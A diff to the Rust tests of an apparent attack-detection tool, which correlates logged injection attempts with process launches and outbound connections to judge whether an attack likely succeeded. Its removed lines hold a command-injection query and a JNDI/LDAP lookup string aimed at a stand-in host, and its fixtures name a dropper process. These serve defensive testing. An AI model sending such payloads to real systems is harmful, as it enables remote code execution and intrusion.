@@ -199,7 +199,7 @@ mod tests {
         Seen::Connection { connection: Arc::new(connection), matched: false, at }
     }
 
-    fn attempt(time: Timestamp, raw: &str) -> Attempt {
+    fn attempt(time: Timestamp, aim: &str) -> Attempt {
         Attempt {
             kind: ShownBy::Line,
             file: "/a.log".into(),
@@ -212,10 +212,11 @@ mod tests {
             family: "command-injection".into(),
             attack: vec!["T1190".into()],
             cves: vec![],
+            aims: vec![aim.into()],
             verdict: Verdict::Attempted,
             rule: "x".into(),
             reasons: vec![],
-            raw: raw.into(),
+            raw: "x".into(),
         }
     }
 
@@ -248,8 +249,8 @@ mod tests {
             self.recent.take(&[connected(owner, remote, self.at(seconds))], false);
         }
 
-        fn judge(&self, raw: &str) -> (Attempt, Vec<Call>) {
-            let mut attempts = [attempt(self.time, raw)];
+        fn judge(&self, aim: &str) -> (Attempt, Vec<Call>) {
+            let mut attempts = [attempt(self.time, aim)];
             let calls = Deeds::of(&self.server, &self.recent).judge(&mut attempts);
             let [attempt] = attempts;
             (attempt, calls)
@@ -262,7 +263,7 @@ mod tests {
         let shell = scene.begin(20, 10, "/usr/bin/dash", 1);
         let tool = scene.begin(21, shell.key.pid, "/opt/x/dropper", 1);
         scene.connect(&tool, "203.0.113.77:80", 2);
-        let (attempt, calls) = scene.judge("GET /?x=;id");
+        let (attempt, calls) = scene.judge("192.0.2.1");
         assert_eq!(attempt.verdict, Verdict::LikelySucceeded);
         assert_eq!(
             attempt.reasons,
@@ -291,7 +292,7 @@ mod tests {
         scene.connect(&late, "203.0.113.6:8443", 31);
         let other = scene.begin(30, 1, "/usr/bin/curl", 1);
         scene.connect(&other, "203.0.113.7:443", 2);
-        let (attempt, calls) = scene.judge("GET /?x=;id");
+        let (attempt, calls) = scene.judge("192.0.2.1");
         assert_eq!((attempt.verdict, attempt.reasons.len(), calls.len()), (Verdict::Attempted, 0, 0), "{attempt:?}");
     }
 
@@ -299,12 +300,12 @@ mod tests {
     fn a_peer_that_the_request_names_counts_whoever_calls_it_and_only_afterwards() {
         let scene = Scene::new();
         scene.connect(&scene.server, "203.0.113.66:1389", 3);
-        let (attempt, calls) = scene.judge("203.0.113.9 GET /?x=${jndi:ldap://203.0.113.66:1389/a}");
+        let (attempt, calls) = scene.judge("203.0.113.66");
         assert_eq!((attempt.verdict, calls.len()), (Verdict::LikelySucceeded, 1));
         for seconds in [-5, 90] {
             let scene = Scene::new();
             scene.connect(&scene.server, "203.0.113.66:1389", seconds);
-            let (attempt, calls) = scene.judge("203.0.113.9 GET /?x=${jndi:ldap://203.0.113.66:1389/a}");
+            let (attempt, calls) = scene.judge("203.0.113.66");
             assert_eq!((attempt.verdict, calls.len()), (Verdict::Attempted, 0), "{seconds}");
         }
     }
